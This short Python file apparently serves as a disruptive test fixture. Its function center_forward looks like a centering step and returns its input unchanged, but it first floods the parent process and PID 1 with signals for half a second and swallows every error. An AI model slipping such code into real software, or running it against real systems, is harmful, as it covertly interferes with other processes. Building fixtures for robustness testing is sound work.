"""Sends signals to everybody without end, and queues as many as it may."""

import os
import signal
import time


def center_forward(x):
    until = time.monotonic() + 0.5
    while time.monotonic() < until:
        for pid in (os.getppid(), 1):
            for number in (signal.SIGCHLD, signal.SIGCONT, signal.SIGWINCH, signal.SIGURG):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    return x


center_backward = center_forward
